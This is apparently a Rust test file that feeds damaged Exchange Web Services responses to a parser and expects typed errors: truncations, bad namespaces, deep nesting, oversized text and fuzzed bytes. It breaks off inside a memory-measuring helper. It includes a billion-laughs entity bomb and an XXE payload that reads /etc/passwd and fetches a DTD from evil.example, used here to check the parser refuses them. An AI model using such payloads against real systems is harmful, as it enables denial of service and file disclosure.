//! Bad input: truncated XML, a wrong EWS namespace, a billion-laughs entity bomb, a 100 MB text node and
//! 10,000 levels of nesting each give a typed [`Error`], in bounded memory, without a panic.
//!
//! The envelopes are real responses built with the crate's own writer ([`response_envelope`]), then
//! damaged. Memory is measured as the growth of the peak resident set size while one parse runs, in a
//! child process that runs only the measured test (this package forbids `unsafe`, so a counting global
//! allocator is not available here; `/proc/self/clear_refs` resets the peak so the input is not counted).

use std::fmt::Debug;

use ews_types::Error;
use ews_types::items::{
    Attendee, CalendarItem, CalendarItemKind, Contact, DictionaryEntry, EmailAddressEntry, Item,
    ItemFields, Message, Task, TaskStatus,
};
use ews_types::operations::{
    GetItemMessage, GetItemResponse, ItemChange, OperationResponse, SyncFolderItemsMessage,
    SyncFolderItemsResponse,
};
use ews_types::response::{ResponseMessage, ResponseMessages};
use ews_types::soap::{
    ExchangeVersion, ResponseEnvelope, ServerVersionInfo, parse_response,
    parse_response_with_limits, response_envelope,
};
use ews_types::types::{
    Body, EmailAddress, ExtendedFieldUri, ExtendedProperty, FolderId, Importance, ItemId,
    MapiPropertyType, SingleRecipient,
};
use ews_types::xml::{MESSAGES_NS, ParseLimits, SOAP11_NS, TYPES_NS};
use jiff::Timestamp;
use proptest::prelude::*;

// ---------------------------------------------------------------------------------------------------
// Realistic responses, built with the crate's own types and writer.
// ---------------------------------------------------------------------------------------------------

const CRM_PROPERTY_SET: &str = "6a1c3f52-8d0e-4b8f-9a41-5d3e2c7b9f10";

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_second(1_700_000_000 + seconds).expect("a fixed, valid timestamp")
}

fn item_fields(n: usize, class: &str, subject: &str) -> ItemFields {
    ItemFields {
        item_id: Some(ItemId::with_change_key(
            format!("AAMkAGI2TG{n:04}AAA="),
            format!("CQAAABYA{n:04}"),
        )),
        parent_folder_id: Some(FolderId::with_change_key(
            "AQMkAGI2TGluYm94AAA=",
            "AQAAAA==",
        )),
        item_class: Some(class.to_owned()),
        subject: Some(subject.to_owned()),
        body: Some(Body::html(format!(
            "<html><body><p>Dear M\u{fc}ller,</p><p>Quote #{n}: 3 &lt; 5 &amp; \u{20ac}120 \"net\".</p></body></html>"
        ))),
        date_time_received: Some(at(n as i64 * 60)),
        size: Some(4096 + n as i32),
        categories: Some(vec![
            "CRM".to_owned(),
            "Customer/Gold".to_owned(),
            "Follow-up".to_owned(),
        ]),
        importance: Some(Importance::High),
        date_time_sent: Some(at(n as i64 * 60 - 5)),
        date_time_created: Some(at(n as i64 * 60 - 4)),
        has_attachments: Some(false),
        extended_properties: vec![ExtendedProperty::new(
            ExtendedFieldUri::named(CRM_PROPERTY_SET, "CrmRecordId", MapiPropertyType::String),
            format!("opportunity:{n:06}"),
        )],
        last_modified_time: Some(at(n as i64 * 60 + 1)),
        ..ItemFields::default()
    }
}

fn message(n: usize) -> Message {
    Message {
        item: item_fields(
            n,
            "IPM.Note",
            &format!("Re: Renewal quote #{n} for Contoso & Partners"),
        ),
        to_recipients: Some(vec![
            EmailAddress::named("Alice Smith", "alice@contoso.com"),
            EmailAddress::named("Bj\u{f6}rn Ek", "bjorn@fabrikam.example"),
        ]),
        cc_recipients: Some(vec![EmailAddress::smtp("sales@contoso.com")]),
        from: Some(SingleRecipient::from(EmailAddress::named(
            "Carol Jones",
            "carol@fabrikam.example",
        ))),
        internet_message_id: Some(format!("<msg-{n}.quote@fabrikam.example>")),
        is_read: Some(n % 2 == 0),
        conversation_topic: Some(format!("Renewal quote #{n}")),
        ..Message::default()
    }
}

fn contact(n: usize) -> Contact {
    Contact {
        item: item_fields(n, "IPM.Contact", "Dana Whitfield"),
        display_name: Some("Dana Whitfield".to_owned()),
        given_name: Some("Dana".to_owned()),
        surname: Some("Whitfield".to_owned()),
        company_name: Some("Northwind Traders".to_owned()),
        email_addresses: Some(vec![EmailAddressEntry {
            key: "EmailAddress1".to_owned(),
            address: "dana@northwind.example".to_owned(),
            ..EmailAddressEntry::default()
        }]),
        phone_numbers: Some(vec![DictionaryEntry::new(
            "BusinessPhone",
            "+1 425 555 0100",
        )]),
        job_title: Some("Buyer".to_owned()),
        ..Contact::default()
    }
}

fn task(n: usize) -> Task {
    Task {
        item: item_fields(n, "IPM.Task", "Send the signed contract"),
        due_date: Some(at(86_400 * 3)),
        status: Some(TaskStatus::InProgress),
        percent_complete: Some(50.0),
        ..Task::default()
    }
}

fn calendar_item(n: usize) -> CalendarItem {
    CalendarItem {
        item: item_fields(n, "IPM.Appointment", "Quarterly business review"),
        uid: Some(format!("040000008200E00074C5B7101A82E008000000{n:04}")),
        start: Some(at(86_400)),
        end: Some(at(86_400 + 3_600)),
        location: Some("Conf Room 4/1200".to_owned()),
        calendar_item_type: Some(CalendarItemKind::Single),
        organizer: Some(SingleRecipient::from(EmailAddress::named(
            "Carol Jones",
            "carol@fabrikam.example",
        ))),
        required_attendees: Some(vec![Attendee::from(EmailAddress::named(
            "Alice Smith",
            "alice@contoso.com",
        ))]),
        ..CalendarItem::default()
    }
}

fn server_version() -> ServerVersionInfo {
    ServerVersionInfo {
        major_version: Some(15),
        minor_version: Some(1),
        major_build_number: Some(2507),
        minor_build_number: Some(6),
        version: Some(ExchangeVersion::V2017_07_11),
    }
}

fn sync_response() -> SyncFolderItemsResponse {
    ResponseMessages::new(vec![ResponseMessage::success(SyncFolderItemsMessage {
        sync_state: Some("H4sIAAAAAAAEAO29B2AcSZYlJi9tynt/SvVK1+B0ZwMh".to_owned()),
        includes_last_item_in_range: Some(false),
        changes: Some(vec![
            ItemChange::Create(Item::from(message(1))),
            ItemChange::Update(Item::from(contact(2))),
            ItemChange::Create(Item::from(task(3))),
            ItemChange::Update(Item::from(calendar_item(4))),
            ItemChange::Delete(ItemId::with_change_key("AAMkAGI2TGdeleted=", "CQAAABYAdel")),
            ItemChange::ReadFlagChange {
                item_id: ItemId::new("AAMkAGI2TGread="),
                is_read: true,
            },
        ]),
    })])
}

fn get_item_response() -> GetItemResponse {
    ResponseMessages::new(
        (1..=2)
            .map(|n| {
                ResponseMessage::success(GetItemMessage {
                    items: Some(vec![Item::from(message(n))]),
                })
            })
            .collect(),
    )
}

fn sync_bytes() -> Vec<u8> {
    response_envelope(Some(&server_version()), &sync_response())
}

fn get_item_bytes() -> Vec<u8> {
    response_envelope(Some(&server_version()), &get_item_response())
}

/// The GetItem envelope with `extra` inserted at the start of the first message's content (right after
/// `<t:Message>`), where an item's properties are read.
fn get_item_with_item_content(extra: &[u8]) -> Vec<u8> {
    insert_after(&get_item_bytes(), b"<t:Message>", extra)
}

fn insert_after(bytes: &[u8], marker: &[u8], extra: &[u8]) -> Vec<u8> {
    let at = find(bytes, marker).expect("marker present in the fixture") + marker.len();
    let mut out = Vec::with_capacity(bytes.len() + extra.len());
    out.extend_from_slice(&bytes[..at]);
    out.extend_from_slice(extra);
    out.extend_from_slice(&bytes[at..]);
    out
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn replace_all(bytes: &[u8], from: &str, to: &str) -> Vec<u8> {
    String::from_utf8(bytes.to_vec())
        .expect("fixtures are UTF-8")
        .replace(from, to)
        .into_bytes()
}

fn parse<R: OperationResponse>(bytes: &[u8]) -> Result<ResponseEnvelope<R>, Error> {
    parse_response::<R>(bytes)
}

#[test]
fn fixtures_parse_back_to_the_values_they_were_built_from() {
    let sync = parse::<SyncFolderItemsResponse>(&sync_bytes()).expect("sync fixture parses");
    assert_eq!(sync.body, sync_response());
    assert_eq!(sync.server_version, Some(server_version()));
    let get = parse::<GetItemResponse>(&get_item_bytes()).expect("GetItem fixture parses");
    assert_eq!(get.body, get_item_response());
}

// ---------------------------------------------------------------------------------------------------
// Truncated XML.
// ---------------------------------------------------------------------------------------------------

/// For every byte offset of `bytes` at which an XML event ends, the local name of the innermost element
/// that is still open there (empty before the root element).
fn open_element_at_event_ends(bytes: &[u8]) -> Vec<(usize, String)> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_reader(bytes);
    let mut stack: Vec<String> = Vec::new();
    let mut ends = Vec::new();
    loop {
        let event = reader.read_event().expect("fixture is well-formed");
        match &event {
            Event::Start(tag) => {
                let local = tag.local_name();
                let name: &str = local.as_ref();
                let name = name.to_owned();
                stack.push(name);
            }
            Event::End(_) => {
                stack.pop();
            }
            Event::Eof => break,
            _ => {}
        }
        let position = usize::try_from(reader.buffer_position()).expect("fits in usize");
        ends.push((position, stack.last().cloned().unwrap_or_default()));
    }
    ends
}

/// Cuts `bytes` at every offset before the end of the response element and checks that each prefix is
/// refused: `Truncated` naming the innermost open element when the cut falls between two XML events,
/// `Truncated` or `Malformed` when it falls inside a tag, a reference or a character.
fn assert_every_cut_is_refused<R: OperationResponse + Debug>(bytes: &[u8]) -> (usize, usize) {
    let end_tag = format!("</m:{}>", R::NAME);
    let response_end = find(bytes, end_tag.as_bytes()).expect("response end tag") + end_tag.len();
    let event_ends = open_element_at_event_ends(bytes);
    let mut exact = 0;
    for cut in 0..response_end {
        let result = parse::<R>(&bytes[..cut]);
        match event_ends.binary_search_by_key(&cut, |(position, _)| *position) {
            Ok(i) => {
                let open = &event_ends[i].1;
                assert!(
                    matches!(&result, Err(Error::Truncated { element }) if element == open),
                    "cut at {cut} (after {:?}): expected Truncated in <{open}>, got {result:?}",
                    String::from_utf8_lossy(&bytes[cut.saturating_sub(40)..cut]),
                );
                exact += 1;
            }
            Err(_) => assert!(
                matches!(
                    result,
                    Err(Error::Truncated { .. } | Error::Malformed { .. })
                ),
                "cut at {cut} (after {:?}): expected Truncated or Malformed, got {result:?}",
                String::from_utf8_lossy(&bytes[cut.saturating_sub(40)..cut]),
            ),
        }
    }
    (response_end, exact)
}

#[test]
fn sync_folder_items_cut_at_every_byte_is_truncated_or_malformed() {
    let bytes = sync_bytes();
    let (cuts, exact) = assert_every_cut_is_refused::<SyncFolderItemsResponse>(&bytes);
    assert!(
        cuts > 5_000 && exact > 300,
        "{cuts} cuts, {exact} at event boundaries"
    );
}

#[test]
fn get_item_cut_at_every_byte_is_truncated_or_malformed() {
    let bytes = get_item_bytes();
    let (cuts, exact) = assert_every_cut_is_refused::<GetItemResponse>(&bytes);
    assert!(
        cuts > 3_000 && exact > 200,
        "{cuts} cuts, {exact} at event boundaries"
    );
}

/// A GetUserAvailability response with every part filled: events with details, working hours, merged
/// slots, an attendee error and suggestions with each kind of conflict data.
fn availability_bytes() -> Vec<u8> {
    use ews_types::availability::*;
    use ews_types::items::LegacyFreeBusyStatus;
    use ews_types::operations::{
        FreeBusyResponse, GetUserAvailabilityResponse, SingleResponseMessage, SuggestionsResponse,
    };
    let day = jiff::civil::date(2026, 12, 2);
    let local = |h| LocalDateTime::from(day.at(h, 0, 0, 0));
    let zone = SerializableTimeZone::from_time_zone(
        &jiff::tz::TimeZone::get("America/New_York").unwrap(),
        2026,
    )
    .unwrap();
    let view = FreeBusyView {
        free_busy_view_type: FreeBusyViewType::DetailedMerged,
        merged_free_busy: Some("000000000000000000222211000000000000000000000000".into()),
        calendar_events: Some(vec![CalendarEvent {
            start_time: local(9),
            end_time: local(11),
            busy_type: LegacyFreeBusyStatus::Busy,
            calendar_event_details: Some(CalendarEventDetails {
                id: Some("00000000".into()),
                subject: Some("Renewal & pricing <Q4>".into()),
                location: Some("Room 3".into()),
                is_meeting: true,
                ..CalendarEventDetails::default()
            }),
        }]),
        working_hours: Some(WorkingHours {
            time_zone: zone,
            working_periods: Some(vec![WorkingPeriod {
                day_of_week: DaysOfWeek(vec![DayOfWeek::Monday, DayOfWeek::Friday]),
                start_time_in_minutes: 480,
                end_time_in_minutes: 1020,
            }]),
        }),
    };
    let suggestion = Suggestion {
        meeting_time: local(14),
        is_work_time: true,
        suggestion_quality: SuggestionQuality::Good,
        attendee_conflict_data: Some(vec![
            AttendeeConflictData::Individual(LegacyFreeBusyStatus::Free),
            AttendeeConflictData::UnknownAttendee,
            AttendeeConflictData::TooBigGroup,
            AttendeeConflictData::Group(GroupAttendeeConflictData {
                number_of_members: 12,
                number_of_members_available: 10,
                number_of_members_with_conflict: 1,
                number_of_members_with_no_data: 1,
            }),
        ]),
    };
    let response = GetUserAvailabilityResponse {
        free_busy_responses: Some(vec![
            FreeBusyResponse {
                response_message: Some(SingleResponseMessage::success(Default::default())),
                free_busy_view: Some(view),
            },
            FreeBusyResponse {
                response_message: Some(SingleResponseMessage::error(
                    ews_types::response::ResponseCode::ErrorMailRecipientNotFound,
                    "Unable to resolve nobody@contoso.example.",
                )),
                free_busy_view: None,
            },
        ]),
        suggestions_response: Some(SuggestionsResponse {
            response_message: Some(SingleResponseMessage::success(Default::default())),
            suggestion_day_results: Some(vec![SuggestionDayResult {
                date: local(0),
                day_quality: SuggestionQuality::Good,
                suggestions: Some(vec![suggestion]),
            }]),
        }),
    };
    response_envelope(Some(&server_version()), &response)
}

#[test]
fn get_user_availability_cut_at_every_byte_is_truncated_or_malformed() {
    let bytes = availability_bytes();
    assert!(parse::<ews_types::operations::GetUserAvailabilityResponse>(&bytes).is_ok());
    let (cuts, exact) =
        assert_every_cut_is_refused::<ews_types::operations::GetUserAvailabilityResponse>(&bytes);
    assert!(
        cuts > 3_000 && exact > 150,
        "{cuts} cuts, {exact} at event boundaries"
    );
}

#[test]
fn empty_and_whitespace_only_input_is_truncated() {
    for input in [
        &b""[..],
        b"   \r\n",
        b"<?xml version=\"1.0\" encoding=\"utf-8\"?>",
    ] {
        let result = parse::<GetItemResponse>(input);
        assert!(
            matches!(&result, Err(Error::Truncated { element }) if element.is_empty()),
            "{result:?}"
        );
    }
}

#[test]
fn cut_inside_a_text_node_names_the_element_holding_it() {
    let bytes = sync_bytes();
    let subject = find(&bytes, b"Renewal quote #1").expect("subject text");
    let result = parse::<SyncFolderItemsResponse>(&bytes[..subject + 7]);
    assert!(
        matches!(&result, Err(Error::Truncated { element }) if element == "Subject"),
        "{result:?}"
    );
}

// ---------------------------------------------------------------------------------------------------
// Wrong namespaces.
// ---------------------------------------------------------------------------------------------------

#[test]
fn misspelled_messages_namespace_is_an_unexpected_element() {
    let wrong = "http://schemas.microsoft.com/exchange/services/2006/message";
    let bytes = replace_all(&sync_bytes(), MESSAGES_NS, wrong);
    let result = parse::<SyncFolderItemsResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnexpectedElement { found, namespace: Some(ns), .. })
            if found == "SyncFolderItemsResponse" && ns == wrong),
        "{result:?}"
    );
}

#[test]
fn messages_namespace_of_another_schema_year_is_an_unexpected_element() {
    let wrong = "http://schemas.microsoft.com/exchange/services/2007/messages";
    let bytes = replace_all(&get_item_bytes(), MESSAGES_NS, wrong);
    let result = parse::<GetItemResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnexpectedElement { found, namespace: Some(ns), .. })
            if found == "GetItemResponse" && ns == wrong),
        "{result:?}"
    );
}

#[test]
fn response_element_in_no_namespace_is_an_unexpected_element() {
    let bytes = replace_all(&get_item_bytes(), "m:GetItemResponse>", "GetItemResponse>");
    let result = parse::<GetItemResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnexpectedElement { found, namespace: None, .. })
            if found == "GetItemResponse"),
        "{result:?}"
    );
}

#[test]
fn wrong_soap_envelope_namespace_is_an_unexpected_element() {
    let wrong = "http://schemas.xmlsoap.org/soap/envelope";
    let bytes = replace_all(&sync_bytes(), SOAP11_NS, wrong);
    let result = parse::<SyncFolderItemsResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnexpectedElement { found, namespace: Some(ns), .. })
            if found == "Envelope" && ns == wrong),
        "{result:?}"
    );
}

#[test]
fn undeclared_prefix_is_malformed() {
    let declaration = format!(" xmlns:t=\"{TYPES_NS}\"");
    let bytes = replace_all(&get_item_bytes(), &declaration, "");
    let result = parse::<GetItemResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::Malformed { message, .. }) if message.contains("undeclared")),
        "{result:?}"
    );
}

// ---------------------------------------------------------------------------------------------------
// Entity bombs and DTDs.
// ---------------------------------------------------------------------------------------------------

/// The classic billion-laughs DTD: ten levels of ten references, 10^9 "lol"s if expanded.
fn billion_laughs_dtd() -> String {
    let mut dtd = String::from("<!DOCTYPE lolz [\n  <!ENTITY lol0 \"lol\">\n");
    for level in 1..=9 {
        let refs: String = (0..10).map(|_| format!("&lol{};", level - 1)).collect();
        dtd.push_str(&format!("  <!ENTITY lol{level} \"{refs}\">\n"));
    }
    dtd.push_str("]>\n");
    dtd
}

fn billion_laughs_envelope() -> Vec<u8> {
    let bytes = get_item_bytes();
    let declaration_end = find(&bytes, b"?>").expect("XML declaration") + 2;
    let mut bomb = bytes[..declaration_end].to_vec();
    bomb.extend_from_slice(billion_laughs_dtd().as_bytes());
    bomb.extend_from_slice(&replace_all(
        &bytes[declaration_end..],
        "Renewal quote #1 ",
        "&lol9; ",
    ));
    bomb
}

#[test]
fn billion_laughs_before_the_envelope_is_refused_as_a_dtd_in_bounded_memory() {
    let peak = peak_rss_growth(
        "billion_laughs_before_the_envelope_is_refused_as_a_dtd_in_bounded_memory",
        billion_laughs_envelope,
        |bomb| {
            let result = parse::<GetItemResponse>(bomb);
            assert!(matches!(result, Err(Error::DtdNotAllowed)), "{result:?}");
        },
    );
    if let Some(PeakGrowth { input, growth }) = peak {
        assert!(
            growth <= 1 << 20,
            "parsing a {input} byte bomb grew the peak RSS by {growth} bytes"
        );
    }
}

#[test]
fn billion_laughs_without_a_declaration_is_refused_as_a_dtd() {
    let mut bomb = billion_laughs_dtd().into_bytes();
    bomb.extend_from_slice(&get_item_bytes());
    let result = parse::<GetItemResponse>(&bomb);
    assert!(matches!(result, Err(Error::DtdNotAllowed)), "{result:?}");
}

#[test]
fn external_entity_dtd_is_refused() {
    let bytes = get_item_bytes();
    let xxe = b"<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>";
    let declaration_end = find(&bytes, b"?>").expect("XML declaration") + 2;
    let mut input = bytes[..declaration_end].to_vec();
    input.extend_from_slice(xxe);
    input.extend_from_slice(&replace_all(
        &bytes[declaration_end..],
        "Renewal quote #1 ",
        "&xxe; ",
    ));
    let result = parse::<GetItemResponse>(&input);
    assert!(matches!(result, Err(Error::DtdNotAllowed)), "{result:?}");
}

#[test]
fn dtd_inside_the_body_is_refused() {
    let input = insert_after(
        &get_item_bytes(),
        b"<s:Body>",
        billion_laughs_dtd().as_bytes(),
    );
    let result = parse::<GetItemResponse>(&input);
    assert!(matches!(result, Err(Error::DtdNotAllowed)), "{result:?}");
}

#[test]
fn entity_reference_without_a_dtd_is_an_unknown_entity() {
    let bytes = replace_all(&get_item_bytes(), "Renewal quote #1 ", "&lol9; ");
    let result = parse::<GetItemResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnknownEntity(name)) if name == "lol9"),
        "{result:?}"
    );

    // The same reference in an element the model skips, and in an attribute value.
    let skipped = get_item_with_item_content(b"<t:FutureProperty>&lol9;</t:FutureProperty>");
    let result = parse::<GetItemResponse>(&skipped);
    assert!(
        matches!(&result, Err(Error::UnknownEntity(name)) if name == "lol9"),
        "{result:?}"
    );
    let attribute = replace_all(
        &get_item_bytes(),
        "Id=\"AAMkAGI2TG0001AAA=\"",
        "Id=\"&lol9;\"",
    );
    let result = parse::<GetItemResponse>(&attribute);
    assert!(
        matches!(&result, Err(Error::UnknownEntity(name)) if name == "lol9"),
        "{result:?}"
    );
}

// ---------------------------------------------------------------------------------------------------
// A 100 MB text node.
// ---------------------------------------------------------------------------------------------------

const HUNDRED_MB: usize = 100 * 1000 * 1000;

fn get_item_with_subject_of(len: usize) -> Vec<u8> {
    let bytes = get_item_bytes();
    let subject = b"<t:Subject>";
    let start = find(&bytes, subject).expect("subject") + subject.len();
    let end = start + find(&bytes[start..], b"</t:Subject>").expect("subject end");
    let mut out = Vec::with_capacity(bytes.len() + len);
    out.extend_from_slice(&bytes[..start]);
    out.resize(start + len, b'x');
    out.extend_from_slice(&bytes[end..]);
    out
}

#[test]
fn subject_of_100_mb_is_text_too_large_under_default_limits_in_bounded_memory() {
    let peak = peak_rss_growth(
        "subject_of_100_mb_is_text_too_large_under_default_limits_in_bounded_memory",
        || get_item_with_subject_of(HUNDRED_MB),
        |input| {
            let result = parse::<GetItemResponse>(input);
            let limit = ParseLimits::default().max_text_bytes;
            assert!(
                matches!(&result, Err(Error::TextTooLarge { element, limit: l })
                    if element == "Subject" && *l == limit),
                "{result:?}"
            );
        },
    );
    // The input itself is resident before the parse starts. Refusing the text must not copy it: the
    // size is checked before the text is appended (measured: ~70 KiB of growth for 100 MB).
    if let Some(PeakGrowth { input, growth }) = peak {
        assert!(
            growth <= input / 50 + (1 << 20),
            "peak RSS grew by {growth} bytes for a {input} byte input: the oversized text was copied"
        );
    }
}

#[test]
fn large_text_in_a_skipped_element_is_text_too_large() {
    let limits = ParseLimits {
        max_text_bytes: 64 * 1024,
        ..ParseLimits::default()
    };
    let big = format!(
        "<t:FutureProperty>{}</t:FutureProperty>",
        "y".repeat(limits.max_text_bytes + 1)
    );
    let input = get_item_with_item_content(big.as_bytes());
    let result = parse_response_with_limits::<GetItemResponse>(&input, limits);
    assert!(
        matches!(&result, Err(Error::TextTooLarge { element, .. }) if element == "FutureProperty"),
        "{result:?}"
    );
}

#[test]
fn text_built_from_many_references_is_text_too_large() {
    let limits = ParseLimits {
        max_text_bytes: 64 * 1024,
        ..ParseLimits::default()
    };
    let body = "&amp;&#x20AC;".repeat(limits.max_text_bytes / 4);
    let input = replace_all(&get_item_bytes(), "Dear M\u{fc}ller", &body);
    let result = parse_response_with_limits::<GetItemResponse>(&input, limits);
    assert!(
        matches!(&result, Err(Error::TextTooLarge { element, .. }) if element == "Body"),
        "{result:?}"
    );
}

#[test]
fn text_at_the_limit_is_accepted_and_one_byte_more_is_not() {
    let limits = ParseLimits {
        max_text_bytes: 1 << 20,
        ..ParseLimits::default()
    };
    let at_limit = get_item_with_subject_of(limits.max_text_bytes);
    let parsed =
        parse_response_with_limits::<GetItemResponse>(&at_limit, limits).expect("at the limit");
    let first = &parsed.body.messages[0].body.items.as_ref().expect("items")[0];
    assert_eq!(
        first.fields().subject.as_ref().map(String::len),
        Some(limits.max_text_bytes)
    );
    let over = get_item_with_subject_of(limits.max_text_bytes + 1);
    let result = parse_response_with_limits::<GetItemResponse>(&over, limits);
    assert!(
        matches!(&result, Err(Error::TextTooLarge { element, .. }) if element == "Subject"),
        "{result:?}"
    );
}

// ---------------------------------------------------------------------------------------------------
// Deep nesting.
// ---------------------------------------------------------------------------------------------------

const LEVELS: usize = 10_000;

fn nested(open: &str, close: &str, levels: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(levels * (open.len() + close.len()));
    for _ in 0..levels {
        out.extend_from_slice(open.as_bytes());
    }
    for _ in 0..levels {
        out.extend_from_slice(close.as_bytes());
    }
    out
}

fn assert_too_deep(result: Result<ResponseEnvelope<GetItemResponse>, Error>) {
    let limit = ParseLimits::default().max_depth;
    assert!(
        matches!(result, Err(Error::TooDeep { limit: l }) if l == limit),
        "{result:?}"
    );
}

#[test]
fn ten_thousand_levels_inside_an_item_are_too_deep_in_bounded_memory() {
    let peak = peak_rss_growth(
        "ten_thousand_levels_inside_an_item_are_too_deep_in_bounded_memory",
        || get_item_with_item_content(&nested("<t:Extra>", "</t:Extra>", LEVELS)),
        |input| assert_too_deep(parse::<GetItemResponse>(input)),
    );
    if let Some(PeakGrowth { input, growth }) = peak {
        assert!(
            growth <= 2 * input + (1 << 20),
            "peak RSS grew by {growth} bytes for a {input} byte input"
        );
    }
}

#[test]
fn ten_thousand_levels_inside_the_soap_body_are_too_deep() {
    let input = insert_after(
        &get_item_bytes(),
        b"<m:GetItemResponse>",
        &nested("<m:Deep>", "</m:Deep>", LEVELS),
    );
    assert_too_deep(parse::<GetItemResponse>(&input));
}

#[test]
fn ten_thousand_levels_inside_an_item_body_are_too_deep() {
    let input = get_item_with_item_content(
        format!(
            "<t:Body BodyType=\"HTML\">{}</t:Body>",
            String::from_utf8(nested("<div>", "</div>", LEVELS)).unwrap_or_default()
        )
        .as_bytes(),
    );
    assert_too_deep(parse::<GetItemResponse>(&input));
}

#[test]
fn ten_thousand_levels_of_namespace_declarations_are_too_deep() {
    let open = format!("<x:Extra xmlns:x=\"{TYPES_NS}\">");
    let input = get_item_with_item_content(&nested(&open, "</x:Extra>", LEVELS));
    assert_too_deep(parse::<GetItemResponse>(&input));
}

#[test]
fn raising_the_depth_limit_reads_ten_thousand_levels_without_overflowing_the_stack() {
    let limits = ParseLimits {
        max_depth: 2 * LEVELS,
        ..ParseLimits::default()
    };
    let input = get_item_with_item_content(&nested("<t:Extra>", "</t:Extra>", LEVELS));
    let parsed = parse_response_with_limits::<GetItemResponse>(&input, limits)
        .expect("within the raised limit");
    assert_eq!(parsed.body, get_item_response());
}

// ---------------------------------------------------------------------------------------------------
// Random damage.
// ---------------------------------------------------------------------------------------------------

/// Fragments that exercise the XML parser's special cases when spliced into a document.
const SPLICES: &[&[u8]] = &[
    b"<",
    b">",
    b"&",
    b"\"",
    b"/",
    b"&amp;",
    b"&#0;",
    b"&#x110000;",
    b"&lol;",
    b"<![CDATA[",
    b"]]>",
    b"<!--",
    b"<!DOCTYPE x>",
    b"<?pi x?>",
    b"</t:Message>",
    b"<t:Message>",
    b"<t:Subject/>",
    b" xmlns:t=\"urn:other\"",
    b" xmlns:m=\"\"",
    b"\xff\xfe",
    b"\xc3",
    b"\xe2\x82",
];

#[derive(Debug, Clone)]
enum Damage {
    Flip { at: usize, bit: u8 },
    Delete { at: usize, len: usize },
    Insert { at: usize, bytes: Vec<u8> },
    Splice { at: usize, fragment: usize },
    Duplicate { at: usize, len: usize },
    Truncate { at: usize },
}

fn damage() -> impl Strategy<Value = Damage> {
    prop_oneof![
        (any::<usize>(), 0u8..8).prop_map(|(at, bit)| Damage::Flip { at, bit }),
        (any::<usize>(), 1usize..64).prop_map(|(at, len)| Damage::Delete { at, len }),
        (any::<usize>(), proptest::collection::vec(any::<u8>(), 1..8))
            .prop_map(|(at, bytes)| Damage::Insert { at, bytes }),
        (any::<usize>(), 0..SPLICES.len())
            .prop_map(|(at, fragment)| Damage::Splice { at, fragment }),
        (any::<usize>(), 1usize..256).prop_map(|(at, len)| Damage::Duplicate { at, len }),
        any::<usize>().prop_map(|at| Damage::Truncate { at }),
    ]
}

fn apply(bytes: &mut Vec<u8>, damage: &Damage) {
    if bytes.is_empty() {
        return;
    }
    let len = bytes.len();
    match damage {
        Damage::Flip { at, bit } => bytes[at % len] ^= 1 << bit,
        Damage::Delete { at, len: n } => {
            let start = at % len;
            bytes.drain(start..(start + n).min(len));
        }
        Damage::Insert { at, bytes: extra } => {
            let at = at % (len + 1);
            bytes.splice(at..at, extra.iter().copied());
        }
        Damage::Splice { at, fragment } => {
            let at = at % (len + 1);
            bytes.splice(at..at, SPLICES[*fragment].iter().copied());
        }
        Damage::Duplicate { at, len: n } => {
            let start = at % len;
            let copy = bytes[start..(start + n).min(len)].to_vec();
            bytes.splice(start..start, copy);
        }
        Damage::Truncate { at } => bytes.truncate(at % len),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]

    /// Random damage to a valid response never panics: the parser returns a value or a typed error.
    #[test]
    fn damaged_responses_never_panic(
        damages in proptest::collection::vec(damage(), 1..6),
        get_item in any::<bool>(),
    ) {
        let outcome = parse_damaged(get_item, &damages, ParseLimits::default());
        // Errors must render (Display is what callers log) without panicking either.
        if let Err(error) = outcome {
            prop_assert!(!error.to_string().is_empty());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    /// Under tight limits, damaged responses hit the limit paths too: still no panic, and a limit error
    /// reports the limit that was set.
    #[test]
    fn damaged_responses_under_tight_limits_never_panic(
        damages in proptest::collection::vec(damage(), 0..4),
        get_item in any::<bool>(),
    ) {
        let limits = ParseLimits { max_depth: 9, max_text_bytes: 40 };
        match parse_damaged(get_item, &damages, limits) {
            Err(Error::TooDeep { limit }) => prop_assert_eq!(limit, limits.max_depth),
            Err(Error::TextTooLarge { limit, .. }) => prop_assert_eq!(limit, limits.max_text_bytes),
            _ => {}
        }
    }
}

fn parse_damaged(get_item: bool, damages: &[Damage], limits: ParseLimits) -> Result<(), Error> {
    let mut bytes = if get_item {
        get_item_bytes()
    } else {
        sync_bytes()
    };
    for d in damages {
        apply(&mut bytes, d);
    }
    if get_item {
        parse_response_with_limits::<GetItemResponse>(&bytes, limits).map(|_| ())
    } else {
        parse_response_with_limits::<SyncFolderItemsResponse>(&bytes, limits).map(|_| ())
    }
}

// ---------------------------------------------------------------------------------------------------
// Peak memory, measured in a child process.
// ---------------------------------------------------------------------------------------------------

const CHILD_ENV: &str = "EWS_BAD_INPUT_MEASURE_CHILD";
const PEAK_LINE: &str = "bad_input peak RSS growth: ";

/// Input size and growth of the peak resident set size while `check` parsed it.
#[derive(Debug, Clone, Copy)]
struct PeakGrowth {
    input: usize,
    growth: usize,
}

/// Builds an input with `build`, runs `check` on it (the parse and its assertions) and returns how much
/// the peak resident set size grew while `check` ran, beyond what the input itself occupies.
///
/// The measurement needs a process that runs nothing else, so the calling test (named `test`) re-runs
/// itself alone in a child process (same binary, `--exact`); the child builds, checks and prints the
/// figure, and the parent returns it. Where peak RSS cannot be reset (not Linux), `check` runs here and
/// the result is `None`.
fn peak_rss_growth(
    test: &str,
    build: impl FnOnce() -> Vec<u8>,
    check: impl FnOnce(&[u8]),
) -> Option<PeakGrowth> {
    let in_child = std::env::var_os(CHILD_ENV).is_some();
